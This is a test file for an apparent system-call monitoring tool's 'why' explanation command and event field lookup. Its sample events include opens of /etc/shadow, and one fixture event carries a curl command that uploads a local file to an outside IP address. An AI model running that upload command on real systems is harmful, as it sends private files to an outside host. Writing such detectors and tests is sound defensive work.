import assert from "node:assert/strict";
import type { RunStatus } from "../../../engine/report.ts";
import { fieldValue } from "../../../repl/questions/fields.ts";
import { threads } from "../../../sensor/processes/processes.ts";
import { EVENTS } from "../views/samples.ts";
import { Prompt } from "../fixture.ts";
import { happened } from "../happened.ts";

// Opened here, because libraries stay open and a test must close what it opens.
threads(Deno.pid);

const POLICY = `path "p" by process within 1s {
  openat { pathname = "/tmp/x" }
  openat { pathname =~ "^/etc/", flags = O_RDWR }
}`;

const RUN: RunStatus = {
  policy: "p",
  subject: { by: "process", id: 42 },
  state: 1,
  stateName: "after line 2: openat /tmp/x",
  waits: ["openat ^/etc/"],
  start: 3e6,
  since: 3e6,
  left: 5e8,
  steps: [],
  tainted: false,
};

Deno.test("why tells which condition alone has failed, and the value that failed it", async () => {
  await using prompt = new Prompt();
  await prompt.type(POLICY);
  await happened(prompt, ["/etc/hosts", "/etc/shadow", "/tmp/x"]);
  prompt.session.runs = [RUN];
  const { out, err } = await prompt.type("why p");
  assert.equal(err, "");
  assert.equal(
    out,
    `p, process 42: at openat /tmp/x since +0.003 s, 500 ms left
waits for line 3: openat { pathname =~ "^/etc/", flags = O_RDWR }, judged when called
  fulfilled by none of the last 3 events; openat came 3 times
  flags = O_RDWR  alone fails in 2, the latest:
    +0.002 s  pid 42  openat("/etc/shadow", flags=O_RDONLY) = 3
    flags is O_RDONLY
`,
  );
});

Deno.test("why tells that what is waited for came too early", async () => {
  await using prompt = new Prompt();
  await prompt.type(POLICY);
  await happened(prompt, ["/etc/shadow"], 2);
  await happened(prompt, ["/tmp/x"]);
  prompt.session.runs = [{ ...RUN, since: 2e6 }];
  const { out } = await prompt.type("why p 42");
  assert.match(
    out,
    /fulfilled 1 time in the last 2 events, the latest at \+0\.001 s, before the run/,
  );
});

Deno.test("why looks at the first step where no run has begun", async () => {
  await using prompt = new Prompt();
  await prompt.type(POLICY);
  await happened(prompt, ["/etc/shadow"]);
  const { out } = await prompt.type("why p 42");
  assert.match(out, /^p, process 42: no run has begun\nwaits for line 2: /);
  assert.match(out, /pathname = "\/tmp\/x" {2}alone fails in 1/);
  const json = JSON.parse((await prompt.type("why p 42 --format ndjson")).out);
  assert.deepEqual([json.type, json.policy, json.awaited[0].misses[0].count], ["why", "p", 1]);
  // Another process has done nothing.
  await prompt.type("attach 43");
  assert.match((await prompt.type("why p 43")).out, /openat came 0 times\n$/);
  const foreign = `Cannot tell whose runs process ${Deno.pid} belongs to`;
  assert.ok((await prompt.type(`why p ${Deno.pid}`)).err.startsWith(foreign), "it is not watched");
});

Deno.test("why tells how far runs have come where none is live", async () => {
  await using prompt = new Prompt();
  await prompt.type(POLICY);
  await happened(prompt, ["/tmp/x", "/etc/shadow"]);
  const { out } = await prompt.type("why p");
  assert.match(out, /^p: no run is live; the furthest came to openat \/tmp\/x\nwaits for line 3: /);
  assert.match(out, /flags = O_RDWR {2}alone fails in 1/);
});

Deno.test("why needs a policy that runs and something that is watched", async () => {
  await using prompt = new Prompt();
  assert.match((await prompt.type("why q")).err, /^Cannot find a policy "q"/);
  await prompt.type(POLICY);
  assert.match((await prompt.type("why p")).err, /^Nothing is watched/);
});

Deno.test("fieldValue finds a field wherever an event carries it", () => {
  const event = EVENTS.find(({ kind }) => kind === "execve");
  assert.ok(event !== undefined);
  const of = (name: string, element: number | null = null) =>
    fieldValue({ ...event, parent: { pid: 7, comm: "sshd" } }, { name, element });
  assert.equal(of("argv", 1), "-s");
  assert.equal(of("args"), "curl -s --data-binary @/tmp/copy http://198.51.100.7:8080/upload");
  assert.equal(of("pid"), event.pid);
  assert.equal(of("parent.comm"), "sshd");
  assert.equal(of("parent.exe"), undefined);
  assert.equal(of("constructor"), undefined);
  assert.equal(of("argv", 9), undefined);
  assert.equal(of("parent"), undefined);
});
